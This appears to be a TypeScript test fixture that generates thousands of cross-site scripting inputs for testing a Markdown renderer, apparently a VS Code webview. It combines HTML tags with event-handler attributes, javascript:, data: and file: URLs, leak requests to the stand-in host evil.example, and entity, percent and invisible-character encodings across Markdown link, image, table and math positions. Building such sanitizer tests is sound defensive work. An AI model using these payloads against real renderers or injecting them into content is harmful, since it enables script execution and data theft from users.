// Hostile answers by the thousand: every tag with every attribute, and every address in every encoding, each in every
// place that Markdown has for it. Payloads call `canary`, or fetch from or navigate to evil.example.

const tags =
  `a abbr applet area audio base bgsound body br button details div embed fencedframe form frame
  frameset html iframe image img input isindex kbd link marquee math meta noscript object p portal
  script select source style sub summary sup svg table template textarea title video x-evil`.split(
    /\s+/u,
  );

const attributes = [
  '',
  'onerror=canary(1)',
  'onload="canary(1)"',
  `onclick='canary(1)'`,
  'autofocus onfocus=canary(1)',
  'open ontoggle=canary(1)',
  'onpointerover=canary(1)',
  'style=animation-name:x onanimationstart=canary(1)',
  'style="background:url(https://evil.example/leak)"',
  'src=x onerror=canary(1)',
  'src=javascript:canary(1)',
  'src=https://evil.example/leak',
  'href=javascript:canary(1)',
  'href=https://evil.example/x rel=stylesheet',
  'xlink:href=javascript:canary(1)',
  'formaction=javascript:canary(1)',
  'action=https://evil.example/leak',
  'data=javascript:canary(1)',
  'srcdoc="<script>parent.canary(1)</script>"',
  'srcset="https://evil.example/leak 1x"',
  'poster=https://evil.example/leak',
  'background=https://evil.example/leak',
  'http-equiv=refresh content="0;url=https://evil.example/"',
  'id=root name=acquireVsCodeApi',
  'nonce=bm9uY2U',
  'is=x-evil popover',
] as const;

const schemes = [
  'javascript:canary(1)',
  'javascript://a.example/%0Acanary(1)',
  'data:text/html,<script>canary(1)</script>',
  'data:image/svg+xml,<svg/onload=canary(1)>',
  'vbscript:canary(1)',
  'command:workbench.action.reloadWindow',
  'vscode://evil.example/x',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  'ws://evil.example/leak',
  '//evil.example/leak',
  '\\\\evil.example\\leak',
  'https://evil.example/leak',
  'https://good.example@evil.example/leak',
  'mailto:a@evil.example?body=x',
  '../../../../etc/passwd',
] as const;

/** The same address as another program could read it. */
const encodings: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) =>
    address.replace(/[a-z]/gu, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (address) => address.replace(':', '&colon;').replace('/', '&sol;'),
  (address) => address.replace(':', '&#58;').replace('/', '&#x2f;'),
  (address) =>
    Array.from(address, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join(''),
  (address) => Array.from(address, (letter) => `&#${letter.codePointAt(0)}`).join(''),
  (address) => encodeURIComponent(address),
  (address) => encodeURIComponent(encodeURIComponent(address)),
  (address) => `${address.slice(0, 4)}\t${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}&Tab;${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}&NewLine;${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}\0${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}\u200B${address.slice(4)}`,
  (address) => `\u0001${address}`,
  (address) => `\u00A0${address}`,
  (address) => address.replaceAll(/[:/()]/gu, String.raw`\$&`),
  (address) => address.replace(':', '\uFF1A').replaceAll('/', '\u2044'),
];

/** Where Markdown takes an address. */
const addressCarriers: readonly ((address: string) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `[link](<${address}> "title")`,
  (address) => `[link](https://good.example '${address}')`,
  (address) => `[${address}](${address})`,
  (address) => `![image](${address})`,
  (address) => `[![image](<${address}>)](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `See ${address}, or www.${address}`,
  (address) => `[link][a]\n\n[a]: ${address}`,
  (address) => `[link]\n\n[link]: <${address}>\n"onclick=canary(1)"`,
  (address) => `[${address}][]\n\n[${address}]: ${address}`,
  (address) => `text[^1]\n\n[^1]: [link](${address}) ${address}`,
  (address) => `text[^${address}]\n\n[^${address}]: note`,
  (address) => `$\\href{${address}}{x}$ and \\(\\url{${address}}\\)`,
  (address) => `$$\n\\includegraphics{${address}} \\htmlData{src=${address}}{x}\n$$`,
  (address) => `\\[ \\htmlStyle{background: url(${address})}{x} \\class{${address}}{y} \\]`,
  (address) => `<details><summary>[link](${address})</summary>\n\n![x](${address})\n\n</details>`,
  (address) => `[file](${address}#L12) [file](./${address}:3) \`${address}:12\``,
  (address) =>
    `| [a](${address}) | ![b](${address}) |\n|---|---|\n| <${address}> | \`${address}:1\` |`,
  (address) => `\`\`\`${address}\n${address}\n\`\`\``,
  (address) => `> [!NOTE]\n> [link](${address})`,
  (address) => `- [x] [link](${address})\n- [ ] <${address}>`,
  (address) => `<sub>[link](${address})</sub> <kbd>${address}</kbd>`,
  (address) => `# [link](${address})`,
  (address) => `> 1. [link](<${address}>)`,
  (address) => `<a href="${address}">x</a> <img src='${address}'>`,
];

/** Where Markdown takes text that could be HTML. */
const htmlCarriers: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `text ${html} text`,
  (html) => `[${html}](https://good.example)`,
  (html) => `![${html}](https://good.example/x.png)`,
  (html) => `[link](https://good.example '${html.replaceAll("'", '"')}')`,
  (html) => `<details><summary>${html}</summary>\n\n${html}\n\n</details>`,
  (html) => `<details open ontoggle=canary(1)>\n${html}\n</details>`,
  (html) => `| ${html} |\n|---|\n| ${html} |`,
  (html) => `> [!WARNING]\n> ${html}`,
  (html) => `- [ ] ${html}`,
  (html) => `text[^1]\n\n[^1]: ${html}`,
  (html) => `$\\text{${html}}$ $$${html}$$`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
  (html) => `<sub>${html}</sub>`,
  (html) => `\`${html}\` **${html}**`,
];

export interface HostilePayload {
  /** Groups of the same tag, attribute, scheme, encoding and carrier, to name what a test has found. */
  readonly name: string;
  readonly text: string;
}

function htmlPayloads(): readonly HostilePayload[] {
  return tags.flatMap((tag) =>
    attributes.flatMap((attribute, index) =>
      // Each attribute in five of the places, a different five for each tag.
      [0, 1, 2, 3, 4].map((step) => {
        const place = (tags.indexOf(tag) + index + step * 3) % htmlCarriers.length;
        const html = `<${tag} ${attribute}>x</${tag}>`;
        return { name: `${html} in place ${place}`, text: htmlCarriers[place]?.(html) ?? '' };
      }),
    ),
  );
}

function addressPayloads(): readonly HostilePayload[] {
  return schemes.flatMap((scheme) =>
    encodings.flatMap((encode, encoding) =>
      addressCarriers.map((carry, place) => ({
        name: `${scheme} in encoding ${encoding} and place ${place}`,
        text: carry(encode(scheme)),
      })),
    ),
  );
}

/** All payloads, in an order in which any part of them is a mixture. */
export function hostilePayloads(): readonly HostilePayload[] {
  const all = [...htmlPayloads(), ...addressPayloads()];
  // Coprime to the number of all, so that each comes once.
  const step = 7_919;
  return all.map((_, index) => all[(index * step) % all.length] ?? { name: '', text: '' });
}
